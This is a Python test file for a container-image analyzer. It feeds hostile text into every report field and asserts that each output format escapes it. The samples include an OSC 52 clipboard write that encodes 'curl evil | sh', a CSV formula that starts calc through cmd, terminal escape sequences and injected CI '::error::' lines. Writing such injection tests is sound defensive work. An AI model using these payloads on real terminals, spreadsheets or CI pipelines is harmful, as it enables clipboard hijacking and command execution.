"""Issue 12, terminal and document injection: every value that came from input is escaped
for the output it lands in, by that output's one escaping point.

Hostile text (ESC sequences with OSC 52 clipboard writes, BEL, C1 controls, lone
surrogates, formula starts, ``@mentions``, ``::`` and ``%``, backslashes) goes into every
field of a use and of a route; each format must then be valid for its kind and carry no raw
control character.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from urllib.parse import unquote, urlsplit

from hypothesis import example, given
from hypothesis import strategies as st
from report_factory import NODE_EXPORTER, TOOL, result, use

from analyzer.formats import FORMAT_NAMES, render
from analyzer.model import ConfigError, ImageUse, SourceError
from analyzer.report import Policy, Report

OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
PIECES = [
    OSC52,
    "\x1b[2J",
    "\x07",
    "\x9b31m",
    "\ud800",
    "\udcff",
    "=cmd|' /C calc'!A0",
    "+1",
    "-2",
    "@octocat",
    "\t",
    "\r",
    "\n",
    "::error::x",
    "%0A",
    ",",
    "|",
    "<b>",
    "`",
    "*",
    "back\\slash",
    "C:",
    "\\\\server",
    "#1",
    "a",
    "web",
]
HOSTILE = st.lists(st.sampled_from(PIECES), min_size=1, max_size=4).map("".join)
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]")
LIVE_MENTION = re.compile(r"(?<![A-Za-z0-9_.+-])@[A-Za-z0-9_]")
ANNOTATION = re.compile(r"::(error|warning|notice)( [^:\n]*)?::[^\n]*")


def hostile_report(text: str) -> Report:
    """A fallback image and an invalid use whose every input-borne field is ``text``."""

    def hostile_use(**extra: str | None) -> ImageUse:
        return use(
            TOOL,
            f"{text}.yaml",
            3,
            kind=text,
            name=text,
            namespace=text,
            container=text,
            source=text,
            **extra,  # type: ignore[arg-type]
        )

    images = (
        result(
            TOOL,
            "fallback",
            (hostile_use(),),
            content=f"https://{text}/v2",
            resolve=None,
            reason=text,
        ),
        result(
            NODE_EXPORTER,
            "direct",
            (hostile_use(),),
            content="https://quay.io/v2",
            resolve="https://quay.io/v2",
            warnings=(text,),
        ),
    )
    invalid = (
        use(
            None,
            f"{text}.json",
            1,
            raw=text,
            use_class="invalid",
            kind=text,
            name=text,
            container=text,
            reason=text,
        ),
    )
    return Report(
        images=images,
        invalid=invalid,
        mirrors=(),
        config_description=text,
        policy=Policy(fail_on=frozenset({"fallback", "direct", "invalid"})),
        source_errors=(SourceError(f"{text}.yaml", 2, text),),
        config_errors=(ConfigError(f"{text}/hosts.toml", 1, text),),
        warnings=(text,),
    )


def rendered(report: Report, fmt: str) -> str:
    out = io.StringIO()
    render(report, fmt, out)
    return out.getvalue()


@given(HOSTILE)
def test_no_format_carries_a_raw_control_character_or_a_lone_surrogate(text: str) -> None:
    report = hostile_report(text)
    for fmt in FORMAT_NAMES:
        out = rendered(report, fmt)
        assert not RAW_CONTROL.search(out), (fmt, RAW_CONTROL.search(out))
        out.encode("utf-8")  # strict: what a terminal or a file receives


@given(HOSTILE)
def test_csv_cells_never_start_a_formula(text: str) -> None:
    rows = list(csv.reader(io.StringIO(rendered(hostile_report(text), "csv"))))
    assert len(rows) == 4  # the header, two uses, one invalid use: no row was split
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@example("@octocat")
@given(HOSTILE)
def test_markdown_mentions_nobody(text: str) -> None:
    out = rendered(hostile_report(text), "markdown")
    assert not LIVE_MENTION.search(out)


@example("x\n::error::y, %0A")
@given(HOSTILE)
def test_github_commands_stay_commands(text: str) -> None:
    for line in rendered(hostile_report(text), "github").splitlines():
        assert ANNOTATION.fullmatch(line), line


@given(HOSTILE)
def test_sarif_locations_are_uris_of_the_file_names(text: str) -> None:
    log = json.loads(rendered(hostile_report(text), "sarif"))
    for item in log["runs"][0]["results"]:
        for location in item["locations"]:
            uri = location["physicalLocation"]["artifactLocation"]["uri"]
            assert urlsplit(uri).scheme in ("", "file")
            assert not urlsplit(uri).netloc
            name = unquote(uri, errors="surrogateescape")
            assert name.endswith((".yaml", ".json"))
            if "\ud800" not in text:
                assert name in (f"{text}.yaml", f"{text}.json")


# -- the terminal: commands that print text ----------------------------------------------------

TERMINAL_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def terminal(*args: str) -> str:
    from typer.testing import CliRunner

    from analyzer.cli import app

    outcome = CliRunner().invoke(app, list(args))
    assert outcome.exception is None or isinstance(outcome.exception, SystemExit), outcome.output
    return outcome.stdout + outcome.stderr


def test_manifest_values_reach_the_terminal_escaped(tmp_path: Path) -> None:
    manifest = tmp_path / "pod.json"
    manifest.write_text(
        '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p\\u001b]52;c;SGk=\\u0007"},'
        '"spec":{"containers":[{"name":"c\\ud800","image":"nginx\\u001b[2J"},'
        '{"name":"d","image":"quay.io/x/y:1\\ud800"}]}}'
    )
    for args in (
        ["images", "-f", "table"],
        ["scan"],
        ["scan", "-f", "csv"],
        ["scan", "-f", "markdown"],
    ):
        out = terminal(args[0], str(manifest), *args[1:])
        assert "\\x1b]52;c;SGk=\\x07" in out or "\\\\x1b" in out, out
        assert not TERMINAL_CONTROL.search(out), (args, out)


@example("x\n::error::y")
@given(HOSTILE)
def test_table_rows_are_not_split_by_a_value(text: str) -> None:
    # a line feed in a file name started a line of its own in the USED IN column, and a CI
    # runner reads a line that starts with ``::`` as a command
    out = rendered(hostile_report(text), "table")
    assert "\n::" not in out and not out.startswith("::"), out


def test_a_file_name_with_a_line_feed_starts_no_line(tmp_path: Path) -> None:
    folder = tmp_path / "manifests"
    folder.mkdir()
    (folder / "x\n::error::y.yaml").write_text(
        "kind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n"
        "  - {name: a, image: quay.io/x/y:1}\n---\nkind: [\n"
    )  # a use, a warning (no apiVersion) and an error, each naming the file
    for args in (["scan"], ["images", "-f", "table"], ["request"], ["rewrite"]):
        out = terminal(args[0], str(folder), *args[1:])
        assert "::error::y.yaml" in out, (args, out)
        assert "\n::" not in out, (args, out)


def test_hosts_toml_strings_reach_the_terminal_escaped(tmp_path: Path) -> None:
    root = tmp_path / "certs.d/docker.io"
    root.mkdir(parents=True)
    (root / "hosts.toml").write_text(
        'server = "https://registry-1.docker.io"\n'
        '[host."https://m.example/\\u001b]52;c;SGk=\\u0007/v2"]\n'
        '  capabilities = ["pull", "resolve", "\\u001b[2J"]\n'
        '  header = { "X-\\u001b[31m" = "v" }\n'
    )
    for args in (["mirrors"], ["mirrors", "-f", "json"], ["explain", "nginx"]):
        out = terminal(*args, "--hosts-dir", str(tmp_path / "certs.d"))
        assert not TERMINAL_CONTROL.search(out), (args, out)


def test_http_reason_phrases_reach_the_terminal_escaped(tmp_path: Path) -> None:
    from scripted_http import ScriptedServer

    server = ScriptedServer(
        script=lambda h: h.reply(418, reason="Oops \x1b]52;c;SGk=\x07\x1b[2J\x9b")
    ).start()
    try:
        root = tmp_path / "certs.d/docker.io"
        root.mkdir(parents=True)
        (root / "hosts.toml").write_text(
            f'[host."{server.url}"]\n  capabilities = ["pull", "resolve"]\n'
        )
        update = terminal("catalog", "update", "--source", f"{server.url}/list.txt")
        probe = terminal(
            "probe",
            "--image",
            "nginx",
            "--hosts-dir",
            str(tmp_path / "certs.d"),
            "--cache-ttl",
            "0",
            "--timeout",
            "5",
        )
    finally:
        server.close()
    assert "Oops \\x1b]52;c;SGk=\\x07" in update and "Oops \\x1b]52" in probe, (update, probe)
    assert not TERMINAL_CONTROL.search(update + probe)
